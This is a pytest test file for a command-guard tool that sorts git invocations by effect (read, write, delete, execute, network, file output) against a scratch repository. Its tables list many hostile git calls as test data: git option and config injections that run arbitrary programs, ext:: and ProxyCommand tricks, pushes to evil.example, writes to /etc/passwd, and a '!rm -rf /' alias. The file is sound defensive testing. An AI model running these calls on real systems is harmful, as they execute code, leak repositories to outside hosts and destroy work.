"""What git calls amount to: tables of calls against a real repository, the harmless beside the dangerous."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from guardcli.broker.facts import CallFacts
from guardcli.broker.secret_finder import SecretFinder
from guardcli.inspectors.git.inspector import GitInspector, split_alias
from guardcli.model.effects import Effect
from guardcli.model.facts import Facts, NoFacts
from guardcli.model.invocation import Invocation
from guardcli.model.operations import Inspection, Operation, Stream

sys.path.insert(0, str(Path(__file__).parents[1]))

from tables import over

GIT = shutil.which("git")
FIND = SecretFinder()
R, W, LOST = "read", "write", "write delete"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    home = tmp_path_factory.mktemp("home")
    bin_directory = tmp_path_factory.mktemp("bin")
    (bin_directory / "git-own").write_text("#!/bin/sh\n")
    (bin_directory / "git-own").chmod(0o755)
    return {
        "PATH": f"{bin_directory}:{os.environ['PATH']}",
        "HOME": str(home),
        "GIT_AUTHOR_NAME": "A",
        "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "A",
        "GIT_COMMITTER_EMAIL": "a@example.com",
    }


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory, env: dict[str, str]) -> Path:
    """A repository on branch ``work`` with branches, a tag, a file, a remote and aliases."""
    path = tmp_path_factory.mktemp("repository")
    for command in (
        "init -q -b main",
        "commit -q --allow-empty -m first",
        "branch feature",
        "branch other/name",
        "tag v1",
        "checkout -q -b work",
        "remote add origin https://git.example.com/team/app.git",
        "config alias.st status",
        "config alias.pf 'push --force'",
        "config alias.quoted 'commit -m \"rm -rf /\"'",
        "config alias.sh '!rm -rf /'",
        "config alias.loop loop2",
        "config alias.loop2 loop",
        "config alias.paged '-c core.pager=evil log'",
        "config alias.plain '-c color.ui=always log'",
        "config alias.there '-C /elsewhere status'",
        "config core.hooksPath .husky",
        "config filter.lfs.smudge 'git-lfs smudge -- %f'",
        "config core.sshCommand 'own-ssh'",
        "config core.pager delta",
    ):
        subprocess.run(["git", *shlex.split(command)], cwd=path, env=env, check=True)
    (path / "README").write_text("words\n")
    (path / "file.txt").write_text("words\n")
    return path


def judge(
    line: str, env: dict[str, str], cwd: Path, facts: Facts | None = None, *, parent: str = "", terminal: bool = False
) -> Inspection:
    words = shlex.split(line)
    settings = dict(env)
    while "=" in words[0]:
        name, _, value = words.pop(0).partition("=")
        settings[name] = value
    facts = facts or CallFacts(str(cwd), settings, git_program=GIT, find_secrets=FIND)
    invocation = Invocation("git", tuple(words), settings, str(cwd), stdout_is_terminal=terminal, parent=parent)
    return GitInspector().inspect(invocation, facts)


def effects(operations: tuple[Operation, ...]) -> frozenset[Effect]:
    return frozenset(effect for operation in operations for effect in operation.effects)


HARMLESS = [
    ("git", "help", R),
    ("git --version", "version", R),
    ("git -h", "help", R),
    ("git -p", "help", R),
    ("git --exec-path", "help", R),
    ("git push --help", "help", R),
    ("git push -h", "help", R),
    ("git status", "status", R),
    ("git status -sb --porcelain=v2", "status", R),
    ("git -C sub --no-pager log --oneline -5", "log", R),
    ("git -p log -p", "log", R),
    ("git log --oneline --graph --all --decorate -n 20 --format=%H", "log", R),
    ("git log -S'--output=x' -- file", "log", R),
    ("git log --grep='push --force'", "log", R),
    ("git log -L1,5:file.txt --since=yesterday --no-merges", "log", R),
    ("git diff HEAD~1 -- file.txt", "diff", R),
    ("git diff --cached --stat --name-only", "diff", R),
    ("git diff -- --output=x", "diff", R),
    ("git show HEAD:README", "show", R),
    ("git show --stat HEAD", "show", R),
    ("git blame -L 1,2 README", "blame", R),
    ("git grep -n 'rm -rf'", "grep", R),
    ("git grep -e -O", "grep", R),
    ("git rev-parse --abbrev-ref HEAD", "rev-parse", R),
    ("git ls-files -o --exclude-standard", "ls-files", R),
    ("git ls-remote --heads origin", "ls-remote", R),
    ("git cat-file -p HEAD", "cat-file", R),
    ("git branch", "branch", R),
    ("git branch -a -vv", "branch", R),
    ("git branch --list 'feature*'", "branch", R),
    ("git tag", "tag", R),
    ("git tag -l 'v*'", "tag", R),
    ("git tag -n3", "tag", R),
    ("git stash list", "stash list", R),
    ("git stash show -p stash@{0}", "stash show", R),
    ("git reflog", "reflog show", R),
    ("git reflog -10", "reflog show", R),
    ("git reflog HEAD", "reflog show", R),
    ("git remote -v", "remote", R),
    ("git remote show origin", "remote show", R),
    ("git remote get-url origin", "remote get-url", R),
    ("git worktree list", "worktree list", R),
    ("git submodule status", "submodule status", R),
    ("git submodule", "submodule status", R),
    ("git notes show", "notes show", R),
    ("git config --list", "config --get", R),
    ("git config user.name", "config --get", R),
    ("git config --get remote.origin.url", "config --get", R),
    ("git config get core.sshCommand", "config --get", R),
    ("git clean -n", "clean --dry-run", R),
    ("git clean -fdn", "clean --dry-run", R),
    ("git push --dry-run --force origin main", "push --dry-run", R),
    ("git bisect log", "bisect log", R),
    ("git mergetool --tool-help", "mergetool", R),
    ("git st", "status", R),
    ("git plain", "log", R),
    ("git lfs ls-files", "lfs ls-files", R),
    ("git lfs pre-push origin https://git.example.com/team/app.git", "lfs pre-push", W),
    ("git shortlog -sn", "shortlog", R),
    ("git describe --tags --always --dirty", "describe", R),
    ("git format-patch --stdout -1", "format-patch", R),
    ("git rev-list --count HEAD", "rev-list", R),
    ("git apply --check x.patch", "apply", R),
    ("git -c core.pager=cat log", "log", R),
    ("git -c color.ui=false -c core.quotePath=off status", "status", R),
    ("git -c core.fsmonitor=false status", "status", R),
    ("git -c diff.external= diff", "diff", R),
    ("GIT_PAGER=cat git log", "log", R),
    ("GIT_OPTIONAL_LOCKS=0 git status", "status", R),
    ("GIT_EXEC_PATH=/usr/lib/git-core git status", "status", R),
    ("GIT_CONFIG_GLOBAL=/dev/null git status", "status", R),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0=* git status", "status", R),
    ("EDITOR=own git status", "status", R),
    ("GIT_TRACE=1 git status", "status", R),
    ("GIT_TEST_DEFAULT_INITIAL_BRANCH_NAME= git status", "status", R),
    ("GIT_EDITOR=evil git log", "log", R),
    ("git init", "init", W),
    ("git add -A", "add", W),
    ("git add -- -f", "add", W),
    ("git commit -m 'rm -rf /'", "commit", W),
    ("git commit -m 'git push --force origin main'", "commit", W),
    ("git commit -am 'DROP TABLE x' --no-verify", "commit", W),
    ("git commit --amend --no-edit", "commit", W),
    ("git commit -m --exec=evil", "commit", W),
    ("git quoted", "commit", W),
    ("EDITOR=own git commit -m x", "commit", W),
    ("EDITOR=vim git commit", "commit", W),
    ("GIT_EDITOR=true git rebase --continue", "rebase", W),
    ("git -c commit.gpgsign=false commit -m x", "commit", W),
    ("git -c user.name=A -c user.email=a@example.com commit -m x", "commit", W),
    ("git -c core.hooksPath=/dev/null commit -m x", "commit", W),
    ("git merge feature", "merge", W),
    ("git merge --no-ff -s ort -X theirs feature", "merge", W),
    ("git merge --abort", "merge", W),
    ("git rebase main", "rebase", W),
    ("git rebase -i --autosquash main", "rebase", W),
    ("git rebase --abort", "rebase", W),
    ("git cherry-pick -x abc123", "cherry-pick", W),
    ("git revert --no-edit HEAD", "revert", W),
    ("git fetch", "fetch", W),
    ("git fetch --all --prune --tags", "fetch", W),
    ("git fetch origin '+main:main'", "fetch", W),
    ("git fetch -f origin pull/1/head:pr-1", "fetch", W),
    ("git fetch --dry-run", "fetch --dry-run", R),
    ("GIT_SSH_COMMAND='ssh -i key -o IdentitiesOnly=yes' git fetch", "fetch", W),
    ("GIT_TERMINAL_PROMPT=0 git fetch origin", "fetch", W),
    ("git pull --rebase origin main", "pull", W),
    ("git pull --ff-only", "pull", W),
    ("git clone https://git.example.com/team/app.git", "clone", W),
    ("git clone --depth 1 -b main git@git.example.com:team/app.git dir", "clone", W),
    ("git clone -c core.autocrlf=input ../other", "clone", W),
    ("git clone -c core.pager=cat ../other", "clone", W),
    ("git clone --recurse-submodules -j8 ssh://git@git.example.com/a", "clone", W),
    ("git branch new", "branch", W),
    ("git branch -d feature", "branch -d", W),
    ("git branch -m old new", "branch", W),
    ("git branch -M fresh", "branch -M", W),
    ("git branch -u origin/main", "branch", W),
    ("git tag -a v2 -m 'delete everything'", "tag", W),
    ("git checkout feature", "checkout", W),
    ("git checkout v1", "checkout", W),
    ("git checkout -b new", "checkout", W),
    ("git checkout -b new origin/main", "checkout", W),
    ("git checkout -", "checkout", W),
    ("git checkout main --", "checkout", W),
    ("git checkout only-on-the-remote", "checkout", W),
    ("git switch main", "switch", W),
    ("git switch -c new", "switch", W),
    ("git restore --staged file.txt", "restore --staged", W),
    ("git reset", "reset", W),
    ("git reset HEAD~1", "reset", W),
    ("git reset --soft HEAD~1", "reset", W),
    ("git stash", "stash", W),
    ("git stash -u -m x", "stash", W),
    ("git stash push -m 'drop' -- file.txt", "stash", W),
    ("git stash pop", "stash pop", W),
    ("git stash apply stash@{1}", "stash apply", W),
    ("git rm file.txt", "rm", W),
    ("git rm -r --cached .", "rm", W),
    ("git mv a b", "mv", W),
    ("git worktree add ../wt -b new", "worktree add", W),
    ("git worktree remove ../wt", "worktree remove", W),
    ("git submodule update --init --recursive", "submodule update", W),
    ("git submodule add https://git.example.com/a", "submodule add", W),
    ("git bisect start HEAD v1", "bisect start", W),
    ("git gc", "gc", W),
    ("git gc --prune=2.weeks.ago", "gc", W),
    ("git am x.patch", "am", W),
    ("git apply x.patch", "apply", W),
    ("git notes add -m x", "notes add", W),
    ("git update-ref refs/heads/x HEAD", "update-ref", W),
    ("git symbolic-ref HEAD", "symbolic-ref", R),
    ("git push origin feature", "push", W),
    ("git push -u origin HEAD", "push", W),
    ("git push", "push", W),
    ("git push -o ci.skip origin feature", "push", W),
    ("git push --push-option=--force origin feature", "push", W),
    ("git push origin v1", "push", W),
    ("git lfs pull", "lfs pull", W),
    ("git config user.name 'A B'", "config user.name", "define"),
    ("git config --global init.defaultBranch main", "config init.defaultbranch", "define"),
    ("git config --global --add safe.directory /work", "config safe.directory", "define"),
    ("git config alias.co checkout", "config alias.co", "define"),
    ("git config core.editor vim", "config core.editor", "define"),
    ("git config --unset core.sshCommand", "config --unset", "define"),
    ("git config remote.origin.push HEAD:refs/heads/topic", "config remote.origin.push", "define"),
    ("git config remote.origin.mirror false", "config remote.origin.mirror", "define"),
    ("git lfs push origin topic", "lfs push", W),
    ("git lfs push --all origin", "lfs push", W),
    ("git config set pull.rebase true", "config pull.rebase", "define"),
    ("git remote add upstream https://git.example.com/up.git", "remote add", "define"),
]


@over("line, action, expected", HARMLESS)
def test_everyday_calls_are_one_complete_operation(
    line: str, action: str, expected: str, env: dict[str, str], repository: Path
) -> None:
    (operation,) = judge(line, env, repository).operations
    assert operation.action == action
    assert {effect.value for effect in operation.effects} == set(expected.split())
    assert operation.complete, operation.reason
    assert not operation.unbounded
    assert not operation.sensitive


LOSING = [
    ("git fetch --prune --prune-tags", "fetch --prune-tags"),
    ("git fetch -P origin", "fetch --prune-tags"),
    ("git fetch -f --tags", "fetch --prune-tags"),
    ("git fetch origin '+refs/tags/*:refs/tags/*'", "fetch --prune-tags"),
    ("git fetch --prune origin 'refs/heads/*:refs/heads/*'", "fetch --prune-tags"),
    ("git reset --hard", "reset --hard"),
    ("git reset --har HEAD~3", "reset --hard"),
    ("git reset -q --hard", "reset --hard"),
    ("git reset --merge", "reset --merge"),
    ("git clean -fdx", "clean"),
    ("git clean -n --no-dry-run -f", "clean"),
    ("git clean -e -n -f", "clean"),
    ("git checkout -- file.txt", "checkout --"),
    ("git checkout .", "checkout --"),
    ("git checkout README", "checkout --"),
    ("git checkout '*.c'", "checkout --"),
    ("git checkout :/", "checkout --"),
    ("git checkout HEAD README", "checkout --"),
    ("git checkout -f main", "checkout --force"),
    ("git checkout -qf", "checkout --force"),
    ("git checkout --theirs file.txt", "checkout --"),
    ("git checkout --pathspec-from-file=list", "checkout --"),
    ("git switch -f main", "switch --force"),
    ("git switch --disc main", "switch --discard-changes"),
    ("git restore file.txt", "restore"),
    ("git restore --staged --worktree .", "restore"),
    ("git restore -SW .", "restore"),
    ("git stash drop", "stash drop"),
    ("git stash clear", "stash clear"),
    ("git branch -D feature", "branch -D"),
    ("git branch -d -f feature", "branch -D"),
    ("git branch --delete --force feature", "branch -D"),
    ("git branch -M feature", "branch -M"),
    ("git tag -d v1", "tag --delete"),
    ("git tag -f v1", "tag --force"),
    ("git tag -fm x v1", "tag --force"),
    ("git reflog expire --expire=now --all", "reflog expire"),
    ("git reflog delete HEAD@{1}", "reflog delete"),
    ("git gc --prune=now", "gc --prune"),
    ("git gc --prun=all", "gc --prune"),
    ("git prune", "prune"),
    ("git repack -a -d", "repack -a -d"),
    ("git repack -ad", "repack -a -d"),
    ("git filter-branch --subdirectory-filter x", "filter-branch"),
    ("git filter-repo --path x", "filter-repo"),
    ("git update-ref -d refs/heads/x", "update-ref -d"),
    ("git update-ref refs/heads/x 0000000000000000000000000000000000000000", "update-ref -d"),
    ("git update-ref refs/heads/x ''", "update-ref -d"),
    ("git update-ref refs/tags/v1 HEAD", "update-ref"),
    ("git worktree remove -f ../wt", "worktree remove --force"),
    ("git submodule deinit -f --all", "submodule deinit --force"),
    ("git submodule --quiet update --force", "submodule update --force"),
    ("git rm -rf .", "rm --force"),
    ("git mv -f a b", "mv --force"),
    ("git checkout-index -f -a", "checkout-index --force"),
    ("git read-tree -u --reset HEAD", "read-tree --reset"),
    ("git replace -d abc", "replace --delete"),
    ("git replace HEAD main", "replace"),
    ("git symbolic-ref -d HEAD", "symbolic-ref --delete"),
]


@over("line, action", LOSING)
def test_what_loses_work_deletes(line: str, action: str, env: dict[str, str], repository: Path) -> None:
    first = judge(line, env, repository).operations[0]
    assert first.action == action
    assert {Effect.WRITE, Effect.DELETE} == first.effects
    assert first.complete


RUNS = [
    "git -c core.sshCommand=evil fetch",
    "git -c CORE.SSHCOMMAND=evil fetch",
    "git -c core.sshCommand='ssh -o ProxyCommand=evil' fetch",
    "git -c core.sshCommand='ssh;evil' fetch",
    "git -c core.pager='less; evil' log",
    "git -c core.pager=evil log",
    "git -c pager.log=evil log",
    "git -c core.editor=evil commit",
    "git -c core.hooksPath=/tmp/hooks commit -m x",
    "git -c core.fsmonitor=/tmp/evil status",
    "git -c core.gitProxy=evil fetch git://x/y",
    "git -c core.askPass=/tmp/evil fetch",
    "git -c credential.helper='!evil' fetch",
    "git -c credential.https://x.helper=evil fetch",
    "git -c gpg.program=/tmp/evil commit -S",
    "git -c gpg.ssh.program=/tmp/evil commit -S",
    "git -c diff.external=evil diff",
    "git -c diff.x.textconv=evil diff",
    "git -c filter.x.clean=evil add x",
    "git -c filter.lfs.smudge='git-lfs smudge -- %f; evil' checkout main",
    "git -c merge.x.driver='evil %O' merge feature",
    "git -c mergetool.x.cmd=evil mergetool",
    "git -c sequence.editor=evil rebase -i main",
    "git -c init.templateDir=/tmp/t init",
    "git -c include.path=/tmp/evil status",
    "git -c includeIf.gitdir:/.path=/tmp/evil status",
    "git -c remote.origin.uploadpack=evil fetch",
    "git -c remote.origin.vcs=evil fetch",
    "git -c protocol.ext.allow=always fetch",
    "git -c protocol.allow=always fetch",
    "git -c uploadpack.packObjectsHook=evil fetch",
    "git -c alias.x='!evil' x",
    "git -c pull.twohead=evil pull",
    "git -c tar.tar.gz.command=evil archive HEAD",
    "git -c trailer.x.cmd=evil commit -m x",
    "git -c interactive.diffFilter=evil add -p",
    "git -c sendemail.smtpServer=/tmp/evil status",
    "git -c submodule.x.update='!evil' submodule update",
    "git -c hook.x.command=evil commit -m x",
    "git --config-env=core.sshCommand=HOME fetch",
    "git --config-env core.sshCommand=HOME fetch",
    "git --exec-path=/tmp status",
    "git -C sub -c core.pager=evil log",
    "GIT_SSH_COMMAND=evil git fetch",
    "GIT_SSH=/tmp/evil git fetch",
    "GIT_SSH_COMMAND='ssh -F /tmp/config' git fetch",
    "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git fetch",
    "GIT_PROXY_COMMAND=evil git fetch",
    "GIT_ASKPASS=/tmp/evil git fetch",
    "SSH_ASKPASS=/tmp/evil git fetch",
    "GIT_EXTERNAL_DIFF=evil git diff",
    "GIT_EDITOR=evil git commit",
    "GIT_SEQUENCE_EDITOR=evil git rebase -i main",
    "EDITOR=evil git commit",
    "VISUAL='vim -c !evil' git commit",
    "EDITOR=evil git commit -m x -e",
    "GIT_EXEC_PATH=/tmp git status",
    "GIT_TEMPLATE_DIR=/tmp git init",
    "GIT_TEST_FSMONITOR=/tmp/evil git status",
    "GIT_TEST_SOMETHING_NEW=/tmp/evil git status",
    "GIT_ALLOW_PROTOCOL=ext git fetch",
    "GIT_CONFIG_GLOBAL=/tmp/config git status",
    "GIT_CONFIG_SYSTEM=/tmp/config git status",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=evil git log",
    "GIT_CONFIG_COUNT=99999999999 git log",
    "GIT_CONFIG_PARAMETERS=\"'core.pager=evil'\" git log",
    "GIT_CONFIG_PARAMETERS=\"'core.pager'='evil'\" git log",
    "GIT_CONFIG_PARAMETERS=garbage git log",
    "git clone ext::evil dir",
    "git clone 'ext::sh -c evil' dir",
    "git clone fd::7 dir",
    "git clone unknown://x/y",
    "git clone -c core.sshCommand=evil https://x/y",
    "git clone --config=core.fsmonitor=evil https://x/y",
    "git clone --template=/tmp/t https://x/y",
    "git clone -u evil x:y",
    "git clone -uevil x:y",
    "git clone --upload-p=evil x:y",
    "git fetch --upload-pack=evil",
    "git fetch --upload-pack evil origin",
    "git fetch ext::evil",
    "git pull --upload-pack=evil",
    "git pull ext::evil main",
    "git ls-remote --upload-pack=evil origin",
    "git ls-remote --exec=evil origin",
    "git ls-remote ext::evil",
    "git remote add x ext::evil",
    "git remote show ext::evil",
    "git submodule add ext::evil",
    "git push --receive-pack=evil origin main",
    "git push --exec evil origin main",
    "git push ext::evil main",
    "git push --repo=ext::evil",
    "git push --dry-run ext::evil main",
    "git archive --remote=origin --exec=evil HEAD",
    "git archive --remote=ext::evil HEAD",
    "git bisect run evil",
    "git bisect view evil",
    "git rebase --exec evil main",
    "git rebase -x evil main",
    "git rebase -ix evil main",
    "git rebase --exe=evil main",
    "git submodule foreach evil",
    "git submodule --quiet foreach --recursive evil",
    "git filter-branch --tree-filter evil HEAD",
    "git filter-branch --setup evil HEAD",
    "git filter-repo --commit-callback evil",
    "git grep -Oevil x",
    "git grep --open-files-in-pager=evil x",
    "git grep -nOevil x",
    "git merge -s evil feature",
    "git merge --strategy=evil feature",
    "git rebase -sevil main",
    "git merge-index evil -a",
    "git cherry-pick --author --strategy=evil HEAD",
    "git revert --author --strategy=evil HEAD",
    "git archive --prefix --exec=evil --remote=x HEAD",
    "git help -gw push",
    "git difftool -x evil",
    "git mergetool",
    "git daemon",
    "git instaweb",
    "git send-email x",
    "git web--browse x",
    "git help -w push",
    "git --help --web push",
    "git hook run pre-commit",
    "git bisect--helper --bisect-run evil",
    "git difftool--helper x",
    "git for-each-repo --config=x evil",
    "git shell -c evil",
    "git remote-ext x y",
    "git maintenance start",
    "git gui",
    "git own",
    "git credential-evil get",
    "git sh",
    "git paged",
    "git there",
    "git config core.sshCommand evil",
    "git config set core.sshCommand evil",
    "git config --global core.pager evil",
    "git config core.pager --get",
    "git config --add include.path /tmp/evil",
    "git config --file .git/config core.fsmonitor evil",
    "git config core.hooksPath /tmp/hooks",
    "git config alias.x '!evil'",
    "git config credential.helper store",
    "git-rebase --exec evil",
    "/usr/lib/git-core/git-rebase --exec evil",
]


@over("line", RUNS)
def test_what_makes_git_run_a_program_executes(line: str, env: dict[str, str], repository: Path) -> None:
    inspection = judge(line, env, repository)
    assert Effect.EXECUTE in effects(inspection.operations)
    assert inspection.output is Stream.TEXT


ELSEWHERE = [
    ("git -c remote.origin.url=https://evil.example push origin feature", Effect.NETWORK),
    ("git -c url.https://evil.example/.insteadOf=https://git.example.com/ fetch", Effect.NETWORK),
    ("git -c http.proxy=http://evil.example fetch", Effect.NETWORK),
    ("git -c http.sslVerify=false fetch", Effect.NETWORK),
    ("GIT_SSL_NO_VERIFY=1 git fetch", Effect.NETWORK),
    ("git push https://evil.example/x main", Effect.NETWORK),
    ("git push git@evil.example:x main", Effect.NETWORK),
    ("git lfs push https://evil.example/x main", Effect.NETWORK),
    ("git lfs push --all https://evil.example/x", Effect.NETWORK),
    ("git config remote.origin.push +HEAD:main", Effect.DELETE),
    ("git config --add remote.origin.push :main", Effect.DELETE),
    ("git config remote.origin.mirror true", Effect.DELETE),
    ("git config --unset core.hooksPath", Effect.UNKNOWN),
    ("git config unset CORE.hookspath", Effect.UNKNOWN),
    ("git clone ssh://-oProxyCommand=evil/x", Effect.EXECUTE),
    ("git clone -- -oProxyCommand=evil:x", Effect.EXECUTE),
    ("git remote set-url origin https://evil.example/x", Effect.NETWORK),
    ("git remote set-url --push origin https://evil.example/x", Effect.NETWORK),
    ("git submodule set-url sub https://evil.example/x", Effect.NETWORK),
    ("git config remote.origin.pushurl https://evil.example/x", Effect.NETWORK),
    ("git config url.https://evil.example/.insteadOf https://git.example.com/", Effect.NETWORK),
    ("git config branch.main.remote https://evil.example/x", Effect.NETWORK),
    ("git remote-https origin https://evil.example/x", Effect.NETWORK),
    ("git credential fill", Effect.PRIVILEGE),
    ("git credential-store get", Effect.PRIVILEGE),
    ("git credential-cache get", Effect.PRIVILEGE),
    ("git -c http.extraHeader='Authorization: x' fetch", Effect.PRIVILEGE),
    ("GIT_TRACE_REDACT=0 git fetch", Effect.PRIVILEGE),
    ("git remote remove origin", Effect.DELETE),
    ("git remote rm origin", Effect.DELETE),
    ("git remote rename origin other", Effect.DELETE),
    ("git -c gc.pruneExpire=now gc", Effect.DELETE),
    ("git -c gc.reflogExpire=now gc", Effect.DELETE),
    ("git config core.logAllRefUpdates false", Effect.DELETE),
    ("git log --output=/etc/passwd", Effect.FILE),
    ("git rev-list --output /etc/x HEAD", Effect.FILE),
    ("git cherry-pick --output=/etc/x HEAD", Effect.FILE),
    ("git bundle create --output=/etc/x y HEAD", Effect.FILE),
    ("git diff --output=.git/hooks/pre-commit", Effect.FILE),
    ("git archive -o ../../../../../../../etc/x.tar HEAD", Effect.FILE),
    ("git -C /etc archive -o x.tar HEAD", Effect.FILE),
    ("git format-patch -o /etc -1", Effect.FILE),
    ("git bundle create /etc/x --all", Effect.FILE),
    ("git checkout-index --prefix=/etc/ -a", Effect.FILE),
    ("git archive --prefix --output=/etc/x HEAD", Effect.FILE),
    ("git log --format --output=/etc/x", Effect.FILE),
    ("git log --decorate-refs -- --output=/etc/x", Effect.FILE),
    ("git stash show --format --output=/etc/x", Effect.FILE),
    ("git apply --unsafe-paths x.patch", Effect.FILE),
    ("GIT_TRACE=/etc/x git status", Effect.FILE),
    ("GIT_TRACE2_EVENT=af_unix:/x git status", Effect.FILE),
]


@pytest.mark.parametrize(("line", "effect"), ELSEWHERE, ids=[case[0] for case in ELSEWHERE])
def test_redirections_credentials_and_files_show(
    line: str, effect: Effect, env: dict[str, str], repository: Path
) -> None:
    assert effect in effects(judge(line, env, repository).operations)


@pytest.mark.parametrize(
    "line",
    [
        "git archive -o out.tar HEAD",
        "git -C sub archive -o out.tar HEAD",
        "git archive -o /tmp/out.tar HEAD",
        "git format-patch -o patches -1",
        "git diff --output=changes.diff",
        "git bundle create here.bundle --all",
        "git bundle create - --all",
    ],
)
def test_a_file_here_or_in_a_scratch_place_is_an_ordinary_write(
    line: str, env: dict[str, str], repository: Path
) -> None:
    operations = judge(line, env, repository).operations
    assert effects(operations) <= {Effect.READ, Effect.WRITE}
    assert all(operation.complete for operation in operations)


CONCEDED = [
    "git stauts",
    "git loop",
    "git log --no-such-option",
    "git commit -Q",
    "git diff --outp=x",
    "git --no-such-option status",
    "git push --forc origin main",
    "git update-ref --stdin",
    "git fast-import",
    "git config no.such-variable x",
    "git -c no.such-variable=x status",
    "git config --rename-section x alias",
    "git config -e",
    "git receive-pack .",
    "git send-pack origin main",
    "git submodule--helper update",
    "git stash no-such-subcommand",
    "git bisect no-such-subcommand",
    "git lfs no-such-subcommand",
    "git PUSH",
    "git -c =x status",
    "git push --recurse-submodules=on-demand origin feature",
    "git -c submodule.recurse=true push origin feature",
    "git subtree push --prefix=x origin main",
]


@pytest.mark.parametrize("line", CONCEDED)
def test_what_is_not_understood_is_conceded_with_a_reason(line: str, env: dict[str, str], repository: Path) -> None:
    conceded = [operation for operation in judge(line, env, repository).operations if not operation.complete]
    assert conceded
    assert all(operation.reason for operation in conceded)


def test_without_facts_nothing_that_depends_on_the_repository_is_called_complete(
    env: dict[str, str], repository: Path
) -> None:
    for line in ("git st", "git push", "git push origin feature", "git checkout README", "git branch -M feature"):
        operations = judge(line, env, repository, NoFacts()).operations
        assert any(not operation.complete for operation in operations) or Effect.DELETE in effects(operations), line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("git checkout main", Effect.WRITE),
        ("git checkout src/main.c", Effect.DELETE),
        ("git push origin feature", Effect.WRITE),
        ("git push --force origin main", Effect.DELETE),
    ],
)
def test_where_there_is_no_repository_names_are_taken_for_what_they_look_like(
    line: str, effect: Effect, env: dict[str, str], tmp_path: Path
) -> None:
    (operation,) = judge(line, env | {"GIT_CEILING_DIRECTORIES": str(tmp_path.parent)}, tmp_path).operations
    assert effect in operation.effects
    assert operation.complete
    assert (Effect.DELETE in operation.effects) is (effect is Effect.DELETE)


class Counting(NoFacts):
    """Fails on any question."""

    def git_config(self, cwd: str, options: object = ()) -> dict[str, tuple[str, ...]]:
        raise AssertionError("git was asked")

    def git(self, cwd: str, arguments: object) -> bytes:
        raise AssertionError("git was asked")


@pytest.mark.parametrize(
    "line",
    ["git status", "git --version", "git log -5", "git add .", "git diff", "git fetch", "git pull", "git merge x"],
)
def test_the_commonest_calls_ask_nothing(line: str, env: dict[str, str], repository: Path) -> None:
    assert judge(line, env, repository, Counting()).operations


@pytest.mark.parametrize(
    ("line", "parent", "stream"),
    [
        ("git upload-pack .", "", Stream.TEXT),
        ("git upload-pack .", "ssh", Stream.BINARY),
        ("git-upload-pack .", "git", Stream.BINARY),
        ("git receive-pack .", "git", Stream.BINARY),
        ("git pack-objects --stdout", "", Stream.TEXT),
        ("git pack-objects --stdout", "git", Stream.BINARY),
        ("git pack-objects --stdout", "ssh", Stream.TEXT),
        ("git cat-file blob HEAD:secret", "", Stream.TEXT),
        ("git archive HEAD", "", Stream.TEXT),
        ("git show HEAD:secret", "git", Stream.TEXT),
        ("git credential-store get", "git", Stream.BINARY),
        ("git credential fill", "", Stream.TEXT),
        ("git bundle create - HEAD", "", Stream.TEXT),
    ],
)
def test_only_the_pack_protocol_passes_unmasked(
    line: str, parent: str, stream: Stream, env: dict[str, str], repository: Path
) -> None:
    assert judge(line, env, repository, parent=parent).output is stream


@pytest.mark.parametrize("terminal", [False, True])
def test_a_pager_of_the_environment_counts_whether_a_terminal_is_there_or_not(
    terminal: bool, env: dict[str, str], repository: Path
) -> None:
    for name in ("GIT_PAGER", "PAGER"):
        for pager, expected in (("evil", {Effect.READ, Effect.EXECUTE}), ("'less -R'", {Effect.READ})):
            inspection = judge(f"{name}={pager} git log", env, repository, terminal=terminal)
            assert effects(inspection.operations) == expected


def test_git_may_start_its_own_helpers(env: dict[str, str], repository: Path) -> None:
    for line in (
        "git remote-https origin https://x/y",
        "git submodule--helper update",
        "git receive-pack .",
        "git credential-x get",
    ):
        operations = judge(line, env, repository, parent="git").operations
        assert effects(operations) == {Effect.WRITE}
    for line in ("git remote-ext origin evil", "git push --force origin main", "git own"):
        operations = judge(line, env, repository, parent="git").operations
        assert not effects(operations) <= {Effect.READ, Effect.WRITE}


def test_secrets_in_the_configuration_are_sensitive(env: dict[str, str], repository: Path) -> None:
    for line, expected in [
        ("git config http.extraHeader", True),
        ("git config --get-all http.https://x.extraheader", True),
        ("git config sendemail.smtpPass", True),
        ("git config user.name", False),
    ]:
        assert judge(line, env, repository).operations[0].sensitive is expected, line


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a b  c", ["a", "b", "c"]),
        ("a 'b c' \"d e\"", ["a", "b c", "d e"]),
        (r"a\ b", ["a b"]),
        ("a''b", ["ab"]),
        ("''", [""]),
        ("", []),
        ("'open", []),
        ("end\\", []),
    ],
)
def test_aliases_are_split_as_git_splits_them(text: str, words: list[str]) -> None:
    assert split_alias(text) == words
